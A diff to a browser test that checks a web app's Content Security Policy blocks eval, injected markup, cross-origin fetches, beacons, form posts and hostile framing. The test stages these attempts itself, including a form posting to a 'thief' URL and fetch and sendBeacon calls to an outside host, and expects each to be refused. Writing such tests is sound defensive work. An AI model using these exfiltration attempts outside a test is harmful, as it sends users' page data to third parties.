@@ -166,6 +166,9 @@ for (const [system, its] of Object.entries(SYSTEMS)) {
   }
 }
 
+/** What is broken by the things that a page did not bring. */
+const BROKEN = ['connect-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'style-src-attr', 'style-src-elem', 'trusted-types', 'require-trusted-types-for'];
+
 journey('the policy holds: no script, markup, style, frame, form or call that the page did not bring', {}, async (t) => {
   const { page, fault, another } = t;
   const thief = await stranger();
@@ -176,9 +179,9 @@ journey('the policy holds: no script, markup, style, frame, form or call that th
     tried.discard();
     await tried.page.goto('/connect');
     await tried.page.getByRole('heading', { name: 'Connect', exact: true }).waitFor();
-    const result = await tried.page.evaluate(async (thiefUrl) => {
-      const broken = [];
-      document.addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective));
+    const result = await tried.page.evaluate(async ([thiefUrl, awaited]) => {
+      const broken = new Set();
+      document.addEventListener('securitypolicyviolation', (event) => broken.add(event.effectiveDirective));
       // What the driver runs may eval for as long as it is called; what a page runs by itself may not.
       await new Promise((resolve) => setTimeout(resolve));
       const refused = (what) => {
@@ -218,17 +221,17 @@ journey('the policy holds: no script, markup, style, frame, form or call that th
       add('form', { action: `${thiefUrl}/form`, method: 'post' }).submit();
       const call = await fetch('http://groups.example.com/').then(() => 'done', (error) => error.name);
       const beacon = navigator.sendBeacon('http://groups.example.com/', 'x');
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      return { ...out, call, beacon, pwned: window.pwned, opacity: getComputedStyle(document.body).opacity, broken: [...new Set(broken)].sort() };
-    }, thief.url);
+      // A form is sent, and an object asked for, when the browser comes to it: each is told of by then.
+      const end = Date.now() + 10_000;
+      while (!awaited.every((directive) => broken.has(directive)) && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 16));
+      return { ...out, call, beacon, pwned: window.pwned, opacity: getComputedStyle(document.body).opacity, broken: [...broken].sort() };
+    }, [thief.url, BROKEN]);
     const { broken, beacon, ...outcome } = result;
     assert.deepEqual(outcome, {
       eval: 'EvalError', function: 'EvalError', markup: 'TypeError', write: 'TypeError', parse: 'TypeError',
       policy: 'TypeError', again: 'TypeError', default: 'TypeError', handler: 'TypeError', inline: 'TypeError', object: 'TypeError', call: 'TypeError', pwned: undefined, opacity: '1',
     });
-    for (const directive of ['connect-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'style-src-attr', 'style-src-elem', 'trusted-types', 'require-trusted-types-for']) {
-      assert.ok(broken.includes(directive), `${directive}: ${broken}`);
-    }
+    for (const directive of BROKEN) assert.ok(broken.includes(directive), `${directive}: ${broken}`);
     // Framed by another page, it does not show.
     await evil.page.route(`${thief.url}/page`, (route) =>
       route.fulfill({ contentType: 'text/html', body: `<!doctype html><iframe src="${fault.url}/connect"></iframe>` }));
